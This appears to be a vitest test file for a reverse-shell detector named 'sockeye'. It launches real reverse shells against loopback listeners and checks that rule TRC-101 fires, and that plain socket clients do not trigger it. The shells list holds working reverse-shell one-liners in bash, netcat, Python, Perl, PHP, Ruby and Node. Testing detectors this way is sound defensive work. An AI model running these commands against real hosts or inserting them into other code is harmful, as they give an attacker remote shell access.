/**
 * Real reverse shells against loopback listeners, through the real sensor and the engine
 * with sockeye's built-in rules: each must give a TRC-101 finding with the right address,
 * port, fd and process; real negatives stay silent.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Engine, ProcessTable, builtinRules, type Finding } from "sockeye";
import { Session, kernelTier, run, tcpListener, udpListener } from "./harness.js";

const tier = kernelTier();

const shellCatcher = (host: string) => tcpListener(host, "exit\n");

interface Trc101Finding extends Finding {
  finding: { "IP address": string; Port: string; "File descriptor": number };
  destination: { ip: string; port: number };
}

describe.runIf(tier.run)("kernel: TRC-101 on real reverse shells", () => {
  let session: Session;
  let engine: Engine;
  const findings: Trc101Finding[] = [];

  beforeAll(async () => {
    session = await Session.open();
    const processes = new ProcessTable();
    processes.seedFromProc();
    engine = new Engine({ rules: builtinRules(), processes });
    session.sensor.subscribe((events) => {
      for (const e of events) for (const f of engine.handle(e)) findings.push(f as Trc101Finding);
    });
  });
  afterAll(() => session?.close());

  const trc101For = (port: number) =>
    findings.filter((f) => f.rule.id === "TRC-101" && f.finding.Port === String(port));

  const shells: { name: string; host?: string; cmd: (h: string, p: number) => string; names: string[] }[] = [
    { name: "bash -i >& /dev/tcp (IPv4)", cmd: (h, p) => `bash -i >& /dev/tcp/${h}/${p} 0>&1`, names: ["bash"] },
    { name: "bash -i >& /dev/tcp (::1)", host: "::1", cmd: (h, p) => `bash -i >& /dev/tcp/${h}/${p} 0>&1`, names: ["bash"] },
    { name: "nc.traditional -e", cmd: (h, p) => `nc.traditional -e /bin/sh ${h} ${p}`, names: ["nc.traditional"] },
    {
      name: "python3 os.dup2 + pty.spawn",
      cmd: (h, p) => `/usr/bin/python3 -c 'import socket,os,pty;s=socket.create_connection(("${h}",${p}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
      names: ["python3"],
    },
    {
      name: "python os.dup onto a closed fd 0",
      cmd: (h, p) => `/usr/bin/python3 -c 'import socket,os;s=socket.create_connection(("${h}",${p}));os.close(0);os.dup(s.fileno())'`,
      names: ["python3"],
    },
    {
      name: "python os.dup2(..., inheritable=False) (dup3)",
      cmd: (h, p) => `/usr/bin/python3 -c 'import socket,os;s=socket.create_connection(("${h}",${p}));os.dup2(s.fileno(),1,inheritable=False)'`,
      names: ["python3"],
    },
    {
      name: "python fcntl(F_DUPFD)",
      cmd: (h, p) => `/usr/bin/python3 -c 'import socket,os,fcntl;s=socket.create_connection(("${h}",${p}));os.close(2);fcntl.fcntl(s.fileno(),fcntl.F_DUPFD,0)'`,
      names: ["python3"],
    },
    {
      name: "a process that closes fd 0 and connects a socket there",
      cmd: (h, p) => `/usr/bin/python3 -c 'import socket,os;os.close(0);s=socket.socket();assert s.fileno()==0;s.connect(("${h}",${p}))'`,
      names: ["python3"],
    },
    {
      name: "perl open(STDIN, >&S)",
      cmd: (h, p) => `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(${p},inet_aton("${h}")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'`,
      names: ["perl"],
    },
    {
      name: "php proc_open with the socket as stdio",
      cmd: (h, p) => `php -r '$s=fsockopen("${h}",${p});$p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$pipes);proc_close($p);'`,
      names: ["php", "sh"],
    },
    {
      name: "ruby TCPSocket + exec with redirections",
      cmd: (h, p) => `ruby -rsocket -e 's=TCPSocket.open("${h}",${p});exec("/bin/sh","-i",:in=>s,:out=>s,:err=>s)'`,
      names: ["ruby", "sh"],
    },
    {
      name: "node child_process.spawn with the socket as stdio",
      cmd: (h, p) => `${process.execPath} -e 'const s=require("net").connect(${p},"${h}",()=>{require("child_process").spawn("/bin/sh",[],{stdio:[s,s,s]}).on("exit",()=>process.exit(0))})'`,
      names: ["node", "sh"],
    },
  ];

  for (const shell of shells) {
    it(shell.name, async () => {
      const host = shell.host ?? "127.0.0.1";
      const catcher = await shellCatcher(host);
      try {
        const r = await run("timeout", ["-s", "KILL", "5", "bash", "-c", shell.cmd(host, catcher.port)]);
        expect(r.status, r.stderr).not.toBe(137);
        await session.settle();
        const found = trc101For(catcher.port);
        expect(found.length).toBeGreaterThanOrEqual(1);
        const f = found[0]!;
        expect(f.finding["IP address"]).toBe(host);
        expect([0, 1, 2]).toContain(f.finding["File descriptor"]);
        expect(shell.names).toContain(f.process.name);
        expect(f.destination.port).toBe(catcher.port);
      } finally {
        await catcher.close();
      }
    });
  }

  it("bash -i >& /dev/udp", async () => {
    const udp = await udpListener();
    try {
      await run("timeout", ["-s", "KILL", "1", "bash", "-c", `bash -i >& /dev/udp/127.0.0.1/${udp.port} 0>&1`]);
      await session.settle();
      const found = trc101For(udp.port);
      expect(found.length).toBeGreaterThanOrEqual(1);
      expect(found[0]!.finding["IP address"]).toBe("127.0.0.1");
    } finally {
      await udp.close();
    }
  });

  it("one bash reverse shell folds into one finding per process and socket", async () => {
    const catcher = await shellCatcher("127.0.0.1");
    try {
      const r = await run("timeout", ["-s", "KILL", "5", "bash", "-c", `bash -c 'exec 0<&- ; exec 3<>/dev/tcp/127.0.0.1/${catcher.port}; exec 0<&3 1>&3 2>&3; sleep 0.2'`]);
      expect(r.status).toBe(0);
      await session.settle();
      const found = trc101For(catcher.port);
      const perProcess = new Map<number, number>();
      for (const f of found) {
        const pid = (f as { process: { pid: number } }).process.pid;
        perProcess.set(pid, (perProcess.get(pid) ?? 0) + 1);
      }
      expect(perProcess.size).toBeGreaterThanOrEqual(1);
      for (const n of perProcess.values()) expect(n).toBe(1);
      expect(engine.stats().folded).toBeGreaterThan(0);
    } finally {
      await catcher.close();
    }
  });

  it("negatives stay silent: plain nc client, python client, socket onto fd 5, file onto fd 1, socketpair on stdio", async () => {
    const catcher = await shellCatcher("127.0.0.1");
    const p = catcher.port;
    try {
      const before = findings.length;
      await run("timeout", ["-s", "KILL", "3", "nc.traditional", "-q", "0", "127.0.0.1", String(p)], "hello\n");
      await run("/usr/bin/python3", ["-c", `import socket,os;s=socket.create_connection(("127.0.0.1",${p}));s.sendall(b"x");os.dup2(s.fileno(),5);f=os.open("/etc/hostname",os.O_RDONLY);os.dup2(f,1);a,b=socket.socketpair();os.dup2(a.fileno(),0);os.dup2(a.fileno(),1)`]);
      await session.settle();
      expect(findings.slice(before)).toEqual([]);
    } finally {
      await catcher.close();
    }
  });
});
